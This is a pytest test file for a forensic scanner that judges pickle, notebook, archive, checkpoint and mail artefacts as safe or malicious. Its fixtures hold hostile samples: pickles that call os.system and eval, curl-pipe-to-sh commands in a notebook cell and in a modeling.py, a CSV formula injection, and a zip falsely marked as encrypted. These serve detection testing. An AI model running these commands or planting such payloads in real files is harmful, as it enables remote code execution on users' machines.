"""Artefacts in evidence from end to end: judged wherever they lie, told as findings, the same again on any engine."""

from __future__ import annotations

import datetime as dt
import gzip
import io
import json
import tarfile
import zipfile
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from whole_run import rows_of

from casemate.case import Case
from casemate.cli.schemas import published
from casemate.demo.generate import SETTINGS
from casemate.engine.duckdb import DuckDBEngine
from casemate.evidence.records import content_of, original
from casemate.evidence.verify import verify
from casemate.explore.overview import case_summary
from casemate.explore.runs import last_run
from casemate.explore.summary import summary
from casemate.explore.why import as_json, why
from casemate.intel.store import own_rules
from casemate.investigate.rerun import rerun
from casemate.investigate.run import Options, investigate

CLOCK = lambda: dt.datetime(2026, 7, 1, tzinfo=dt.UTC)  # noqa: E731
BAD = b"\x80\x02cos\nsystem\nX\x0b\x00\x00\x00echo canary\x85R."
GOOD = b"\x80\x02}X\x01\x00\x00\x00aK\x01s."
EVALUATES = b"\x80\x04\x8c\x08builtins\x8c\x04eval\x93(\x8c\x011tR."
UNKNOWN_CLASS = b"\x80\x04\x8c\x0blab.project\x8c\x05Thing\x93."
BAD_NOTEBOOK = json.dumps(
    {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [
            {
                "cell_type": "code",
                "source": "!curl -s http://203.0.113.9/a | sh",
                "metadata": {},
                "outputs": [],
                "execution_count": None,
            }
        ],
    }
).encode()
SSH = b"".join(
    b"Feb  3 04:00:%02d gw1 sshd[%d]: Failed password for root from 203.0.113.9 port 40000 ssh2\n" % (second, second)
    for second in range(30)
)


def zipped(members: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return data.getvalue()


@pytest.fixture
def evidence(tmp_path: Path) -> Path:
    """Logs, and artefacts beside them, in a zip, in a tar in gzip, and in a checkpoint."""
    folder = tmp_path / "evidence"
    (folder / "models").mkdir(parents=True)
    (folder / "auth.log").write_bytes(SSH)
    (folder / "models" / "bad.pkl").write_bytes(BAD)
    (folder / "models" / "good.pkl").write_bytes(GOOD)
    (folder / "notes.txt").write_bytes(b"cos\nsystem\n(S'echo canary'\ntR.")
    (folder / "work.ipynb").write_bytes(BAD_NOTEBOOK)
    checkpoint = zipped({"net/data.pkl": BAD, "net/version": b"3\n", "net/data/0": bytes(64)})
    with zipfile.ZipFile(folder / "upload.zip", "w") as archive:
        archive.writestr("deep/net.pt", checkpoint)
        archive.writestr("deep/odd.joblib", UNKNOWN_CLASS)
        archive.writestr("deep/readme.md", "# weights\n")
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name, data in (("run/hook.pkl", EVALUATES), ("run/fine.pkl", GOOD)):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    (folder / "run.tar.gz").write_bytes(gzip.compress(packed.getvalue(), mtime=0))
    return folder


def artifacts(path: Path) -> dict[str, dict[str, Any]]:
    return {Path(row["path"]).name: row for row in rows_of(path, "artifacts")}


def told(path: Path) -> dict[str, dict[str, Any]]:
    return {
        Path(row["target"]["value"]).name: row for row in rows_of(path, "findings") if row["detector"] == "artifact"
    }


def test_every_artefact_is_judged_wherever_it_lies_and_told_if_it_is_not_safe(evidence, investigator):
    path, _ = investigator(evidence)
    assert {name: row["verdict"] for name, row in artifacts(path).items()} == {
        "bad.pkl": "malicious",
        "good.pkl": "safe",
        "notes.txt": "malicious",
        "work.ipynb": "malicious",
        "net.pt": "malicious",
        "odd.joblib": "suspicious",
        "hook.pkl": "malicious",
    }
    found = told(path)
    assert set(found) == {"bad.pkl", "notes.txt", "work.ipynb", "net.pt", "odd.joblib", "hook.pkl"}
    assert {found[name]["severity"] for name in found if name != "odd.joblib"} == {"high"}
    assert found["odd.joblib"]["severity"] == "medium"
    assert found["bad.pkl"]["techniques"] == ["AML.T0050"]
    assert found["bad.pkl"]["vector"] == "artifact"
    because = json.loads(found["net.pt"]["why"])
    assert because["artifact"]["path"] == f"{evidence}/upload.zip!/deep/net.pt"
    (reason,) = [one for one in because["reasons"] if one["code"] == "pickle.calls"]
    assert reason["where"] == f"{evidence}/upload.zip!/deep/net.pt!/net/data.pkl"
    assert reason["offset"] is not None
    assert verify(path).holds


def test_findings_lead_to_the_artefact_as_it_was_received(evidence, investigator):
    path, _ = investigator(evidence)
    found = told(path)
    rests = {row["finding"]: (row["evidence"], row["record"]) for row in rows_of(path, "finding_records")}
    with Case.open(path) as case:
        for name, data in (("bad.pkl", BAD), ("work.ipynb", BAD_NOTEBOOK), ("notes.txt", None)):
            address = rests[found[name]["id"]]
            place = original(case.store, *address).place
            assert (place.record, place.offset) == (0, 0)
            if data is not None:
                assert b"".join(content_of(case.store, place)) == data
        answer = why(case, found["bad.pkl"]["id"])
        assert any("system" in sentence for sentence in answer.otherwise)
        assert answer.notes == ()
        jsonschema.validate(json.loads(json.dumps(as_json(answer), default=str)), published("why"))
        made = summary(case_summary(case))
    assert made["evidence"]["records"] == made["evidence"]["kept"] + made["evidence"]["rejected"]
    assert made["attempts"]["by_vector"]["artifact"] == len(found)


def test_what_is_in_stays_and_what_comes_later_is_added(evidence, investigator, tmp_path):
    later = tmp_path / "later"
    later.mkdir()
    held = evidence / "upload.zip"
    held.rename(later / "upload.zip")
    path, _ = investigator(evidence, name="grown")
    before = rows_of(path, "artifacts")
    investigator(evidence, name="grown")
    assert rows_of(path, "artifacts") == before
    (later / "upload.zip").rename(held)
    investigator(evidence, name="grown")
    whole, _ = investigator(evidence, name="whole")
    # fine.pkl has the content of good.pkl: one artefact, received twice
    for table in ("artifacts", "findings", "finding_records", "attempts"):
        with Case.open(path) as grown, Case.open(whole) as at_once:
            assert grown.row_hash(table) == at_once.row_hash(table), table


def test_logs_are_not_looked_at(investigator, demo):
    path, _ = investigator(demo.evidence)
    assert rows_of(path, "artifacts") == []
    assert not [row for row in rows_of(path, "artifact_looks") if row["artifact"] or not row["marked"]]


def test_what_lies_beside_a_model_is_judged_with_it(investigator, tmp_path):
    folder = tmp_path / "hub"
    folder.mkdir()
    (folder / "weights.pkl").write_bytes(GOOD)
    (folder / "config.json").write_text(json.dumps({"auto_map": {"AutoModel": "modeling.Model"}}))
    (folder / "modeling.py").write_text("import os\nos.system('curl http://203.0.113.9/x | sh')\n")
    (folder / "train.csv").write_text("a,b\n1,\"=cmd|'/c calc'!A1\"\n")
    path, _ = investigator(folder)
    assert {name: row["severity"] for name, row in told(path).items()} == {
        "config.json": "high",
        "modeling.py": "high",
        "train.csv": "high",
    }


def test_what_is_attached_to_mail_is_judged(investigator, tmp_path):
    box = tmp_path / "mail"
    box.mkdir()
    for name, data in (("weights.pkl", BAD), ("fine.pkl", GOOD), ("models.zip", zipped({"in/side.pkl": EVALUATES}))):
        message = EmailMessage()
        message["From"], message["To"], message["Subject"] = "a@example.org", "b@example.org", "the weights"
        message.set_content("see attached\n")
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
        (box / f"{name}.eml").write_bytes(message.as_bytes())
    (box / "all.mbox").write_bytes(
        b"".join(
            b"From a@example.org Mon May  4 10:00:00 2026\n" + path.read_bytes() + b"\n" for path in box.glob("*.eml")
        )
    )
    path, _ = investigator(box)
    found = told(path)
    assert {name: row["severity"] for name, row in found.items()} == dict.fromkeys(
        ("weights.pkl.eml", "models.zip.eml", "all.mbox"), "high"
    )
    (reason,) = json.loads(found["models.zip.eml"]["why"])["reasons"]
    assert reason["where"].endswith("models.zip.eml!/models.zip!in/side.pkl")


def test_bad_archives_are_judged_whole(investigator, tmp_path):
    lying = bytearray(zipped({"model.pkl": BAD}))
    lying[6] |= 1  # flagged as encrypted, which it is not
    lying[lying.index(b"PK\x01\x02") + 8] |= 1
    (tmp_path / "lying.zip").write_bytes(lying)
    path, _ = investigator(tmp_path / "lying.zip")
    assert told(path)["lying.zip"]["severity"] == "high"


def test_content_of_no_known_format_is_told_and_not_made_much_of(investigator, tmp_path):
    (tmp_path / "odd.bin").write_bytes(bytes(range(1, 256)) * 30)
    path, _ = investigator(tmp_path / "odd.bin")
    (row,) = rows_of(path, "findings")
    assert (row["rule_id"], row["severity"], row["techniques"]) == (
        "casemate.artifact.format.unknown",
        "informational",
        [],
    )


@pytest.mark.spark
def test_both_engines_say_the_same(evidence, investigator, spark):
    here, _ = investigator(evidence, name="here")
    there, _ = investigator(evidence, name="there", engine=spark)
    for table in ("artifacts", "findings", "finding_records"):
        with Case.open(here) as one, Case.open(there) as other:
            assert one.row_hash(table) == other.row_hash(table), table


class InterruptedRunError(Exception):
    """What ends a run in the middle."""


def test_an_interrupted_scan_goes_on_where_it_was(evidence, investigator, tmp_path, compiled_rules, monkeypatch):
    monkeypatch.setattr("casemate.investigate.artifacts.TASK_ITEMS", 1)
    done: list[tuple[str, int]] = []

    def watch(stage: str, count: int, _most: int) -> None:
        done.append((stage, count))
        if stage == "artifacts" and count == 3:
            raise InterruptedRunError

    path = tmp_path / "case"
    options = Options(rules=(own_rules(),), cache=compiled_rules)
    with Case.create(path, SETTINGS) as case, pytest.raises(InterruptedRunError):
        investigate(case, [evidence], options, DuckDBEngine(), who="tester", clock=CLOCK, stages=watch)
    assert len(rows_of(path, "artifact_looks")) == 3
    assert not told(path)
    with Case.open(path, write=True) as case:
        later: list[int] = []
        investigate(
            case, [evidence], options, DuckDBEngine(), who="tester", clock=CLOCK,
            stages=lambda stage, count, _: later.append(count) if stage == "artifacts" else None,
        )  # fmt: skip
    whole, _ = investigator(evidence, name="whole")
    assert max(later) == len(rows_of(whole, "artifact_looks")) - 3
    for table in ("artifacts", "artifact_looks", "findings", "finding_records"):
        with Case.open(path) as one, Case.open(whole) as other:
            assert one.row_hash(table) == other.row_hash(table), table


def test_rerun_gives_the_same_rows(evidence, investigator, compiled_rules, tmp_path):
    path, _ = investigator(evidence)
    options = Options(rules=(own_rules(),), cache=compiled_rules)
    with Case.open(path) as case, Case.create(tmp_path / "again", case.settings) as again:
        found = rerun(case, last_run(case) or {}, again, options, DuckDBEngine(), clock=CLOCK)
    assert found.identical, [table for table in found.tables if not table.identical]
    assert {"artifacts", "artifact_looks"} <= {table.table for table in found.tables}
